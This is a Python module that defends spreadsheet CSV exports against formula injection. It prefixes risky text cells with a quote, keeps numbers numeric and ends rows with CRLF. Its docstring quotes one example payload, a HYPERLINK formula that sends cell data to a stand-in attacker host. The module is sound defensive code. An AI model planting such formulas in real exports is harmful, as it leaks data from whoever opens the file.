"""CSV that spreadsheets open as data, never as formulas (CSV or formula injection).

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, so a
name such as ``=HYPERLINK("http://evil.example/?"&A1)`` typed into the app would run on the
machine of whoever opens an export. Following OWASP's advice, any text cell that starts with
one of those characters, or with a tab or carriage return, is written with a single quote in
front: spreadsheets show the text and do not evaluate it. The check also looks past leading
whitespace (some spreadsheets skip it before deciding) and at the full-width forms of the
characters (U+FF1D, U+FF0B, U+FF0D, U+FF20), which some spreadsheets fold to the ASCII ones.

Choices:

- Numbers (``int`` and ``float``, not ``bool``) are written as numbers, unquoted and never
  prefixed: ``-5`` is a negative number, not a formula, and prefixing it would turn it into
  text. Only values the program produced should be passed as numbers; anything a person typed
  arrives as ``str`` and is checked, even when it looks like ``-5``.
- Every other cell is quoted, so a separator, quote, CR or LF inside a cell stays inside it
  (line breaks are kept, not flattened).
- Rows end with CRLF, as RFC 4180 says. No byte-order mark is written.

No Flask here: recipient error reports and the evidence pack both use it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TextIO

#: Characters that make a spreadsheet read a cell as a formula (or split it, for tab and CR).
FORMULA_TRIGGERS = frozenset("=+-@\t\r") | frozenset("\uff1d\uff0b\uff0d\uff20")

Cell = str | int | float


def safe_cell(value: object) -> Cell:
    """``value`` as a cell a spreadsheet will not evaluate.

    ``None`` becomes an empty cell; ints and floats stay numbers; everything else becomes text,
    with a ``'`` in front when it could start a formula.
    """
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    if _starts_formula(text):
        return "'" + text
    return text


def _starts_formula(text: str) -> bool:
    if not text:
        return False
    if text[0] in FORMULA_TRIGGERS:
        return True
    # " =1+1" and "\n@SUM(A1)" are formulas to some spreadsheets too.
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def write_rows(
    stream: TextIO, rows: Iterable[Sequence[object]], header: Sequence[str] | None = None
) -> int:
    """Write ``header`` (if given) and ``rows`` to ``stream``, every cell made safe.

    Open files with ``newline=""`` so the CRLF row endings are not translated. Returns the
    number of data rows written (not counting the header).
    """
    writer = csv.writer(stream, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    if header is not None:
        writer.writerow([safe_cell(name) for name in header])
    count = 0
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
        count += 1
    return count


def write_csv(rows: Iterable[Sequence[object]], header: Sequence[str]) -> str:
    """The whole CSV document as text: ``header`` then ``rows``, every cell made safe."""
    buffer = io.StringIO()
    write_rows(buffer, rows, header)
    return buffer.getvalue()
